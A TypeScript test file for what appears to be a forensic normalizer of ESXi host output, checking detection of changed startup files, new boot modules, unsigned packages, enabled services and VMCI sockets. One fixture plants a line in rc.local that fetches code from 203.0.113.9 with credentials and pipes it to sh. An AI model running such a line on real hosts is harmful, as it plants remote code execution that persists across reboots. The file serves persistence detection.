import { readCommand } from '../../../normalizer/esxi/commands/read-command';
import { EsxiMemory } from '../../../normalizer/esxi/state/esxi-memory';
import type { Fact } from '../../../normalizer/model/facts';
import { readSshRecord } from '../../../normalizer/ssh-record';

/** What keeps somebody on a host over a restart, and what no network shows. Formats as esxi.md cites them; no real host was touched. */

const AT = Date.UTC(2026, 10, 24, 2);

class Host {
  readonly #memory = new EsxiMemory();
  #seq = 0;

  read(command: string, body: string, output = 'text'): Fact[] {
    const header = { v: 1, kind: 'command', platform: 'esxi', command, line: 'x', exit: 0, signal: '', output };
    const times = { complete: true, reason: '', stderr: '', startedAt: AT, finishedAt: AT };
    const read = readSshRecord(Buffer.from(`${JSON.stringify({ ...header, ...times })}\n${body}`));
    if (read.kind !== 'command') throw new Error(JSON.stringify(read));
    const facts: Fact[] = [];
    const base = {
      rawSeq: ++this.#seq,
      observedAt: AT,
      timeQuality: 'from_receipt',
      device: 'esx-1',
      parser: 'esxi',
    } as const;
    readCommand(read, base, this.#memory.host('esx-1'), this.#memory, (fact) => facts.push(fact));
    return facts;
  }
}

const inventory = (facts: readonly Fact[]): unknown[] =>
  facts.flatMap((fact) => (fact.fact === 'inventory' ? [{ id: fact.id, name: fact.name, ...fact.extra }] : []));
const changes = (facts: readonly Fact[]): string[] =>
  facts.flatMap((fact) =>
    fact.fact === 'event' && fact.action === 'config_change'
      ? [
          `${fact.extra?.['ascribe.config.kind']} ${fact.extra?.['ascribe.config.item']} ${fact.extra?.['ascribe.change']}`,
        ]
      : [],
  );

test('startup files: hash and text of each, secrets masked, and what changed', () => {
  const host = new Host();
  const files = (local: string): string =>
    `===FILE===/etc/rc.local.d/local.sh\n#!/bin/sh\n${local}exit 0===FILE===/var/spool/cron/crontabs/root\n1 1 * * * /sbin/tmpwatch.py\n`;
  const first = host.read('startup_files', files(''));
  expect(inventory(first)).toMatchObject([
    { id: 'file /etc/rc.local.d/local.sh', 'ascribe.value': 'exit 0', 'file.size': 16 },
    { id: 'file /var/spool/cron/crontabs/root', 'ascribe.value': '1 1 * * * /sbin/tmpwatch.py' },
  ]);
  expect(changes(first)).toEqual([]);
  const second = host.read('startup_files', files('curl -u root:password=s3cretword https://203.0.113.9/x | sh\n'));
  expect(changes(second)).toEqual(['startup_file /etc/rc.local.d/local.sh changed']);
  expect(JSON.stringify(second)).not.toContain('s3cretword');
});

test('boot files by size; those that are written every hour are no change', () => {
  const host = new Host();
  host.read('boot_files', '100 1700000000 /bootbank/useropts.gz\n500 1700000000 /bootbank/state.tgz\n');
  const facts = host.read(
    'boot_files',
    '100 1700000000 /bootbank/useropts.gz\n501 1700003600 /bootbank/state.tgz\n77 1700003600 /bootbank/evil.v00\n',
  );
  expect(changes(facts)).toEqual(['boot_file /bootbank/evil.v00 added']);
});

test('packages whose signature does not hold', () => {
  const facts = new Host().read(
    'vib_signature',
    'AcceptanceLevel,Name,SignatureCheckResult,\nVMwareCertified,esx-base,Succeeded,\nCommunitySupported,evil,Failed: no signature,\n',
    'csv',
  );
  expect(inventory(facts)).toMatchObject([
    { id: 'signature esx-base', 'ascribe.software.signature': 'Succeeded' },
    { id: 'signature evil', 'ascribe.software.signature': 'Failed: no signature' },
  ]);
});

test('services that start with the host', () => {
  const host = new Host();
  host.read('service_list', 'SSH                     off\nntpd                    on\n');
  expect(changes(host.read('service_list', 'SSH                     on\nntpd                    on\n'))).toEqual([
    'service SSH changed',
  ]);
});

test('VMCI and vsock sockets with their world; other files say nothing', () => {
  const facts = new Host().read(
    'open_files',
    'Cartel   |    World name        |   Type   |   fd   |   Description\n2098423  hostd  FILE  3  /var/run/hostd.pid\n2109999  python  SOCKET_VMCI  5  vsock 2:8090\n',
  );
  expect(inventory(facts)).toEqual([
    {
      id: 'SOCKET_VMCI:2109999:5 vsock 2:8090',
      name: 'python',
      'process.name': 'python',
      'ascribe.process.world_id': 2_109_999,
      'ascribe.socket.type': 'SOCKET_VMCI',
      'ascribe.socket.description': '5 vsock 2:8090',
    },
  ]);
});

test('ports of distributed switches', () => {
  const facts = new Host().read(
    'net_dvs',
    `switch 50 2b a5 0e (etherswitch)
\tmax ports: 1792
\tglobal properties:
\t\tcom.vmware.common.alias = DSwitch ,  propType = CONFIG
\tport 130:
\t\tcom.vmware.common.port.portgroupid = dvportgroup-21 ,  propType = CONFIG
\t\tcom.vmware.common.port.volatile.status = inUse linkUp portID=83886082  propType = RUNTIME
\t\tcom.vmware.common.port.volatile.vlan = VLAN 20 ,  propType = RUNTIME VOLATILE
\tport 131:
`,
  );
  expect(inventory(facts)).toEqual([
    {
      id: 'dvport 130',
      name: 'dvport 130',
      'ascribe.portgroup.id': 'dvportgroup-21',
      'ascribe.port.status': 'inUse linkUp',
      'ascribe.port.id': 83_886_082,
      'ascribe.port.vlan': 'VLAN 20',
      'ascribe.switch.name': 'DSwitch',
    },
    { id: 'dvport 131', name: 'dvport 131', 'ascribe.switch.name': 'DSwitch' },
  ]);
});

test('sessions that the host itself opens: names and time', () => {
  const host = new Host();
  const endpoints = (facts: readonly Fact[]): string[] =>
    facts.flatMap((fact) =>
      fact.fact === 'binding' && fact.relation === 'config-endpoint'
        ? [`${fact.extra?.['ascribe.config.purpose']} ${fact.value}`]
        : [],
    );
  expect(endpoints(host.read('dns_servers', '   DNSServers: 192.0.2.53, 2001:db8::53\n', 'table'))).toEqual([
    'dns udp:192.0.2.53:53',
    'dns tcp:192.0.2.53:53',
    'dns udp:[2001:db8::53]:53',
    'dns tcp:[2001:db8::53]:53',
  ]);
  expect(endpoints(host.read('ntp_get', '   Enabled: true\n   Server: 192.0.2.1, ntp.example\n', 'table'))).toEqual([
    'ntp udp:192.0.2.1:123',
    'ntp udp:ntp.example:123',
  ]);
  expect(endpoints(host.read('ntp_get', '   Enabled: false\n   Server: 192.0.2.9\n', 'table'))).toEqual([]);
});
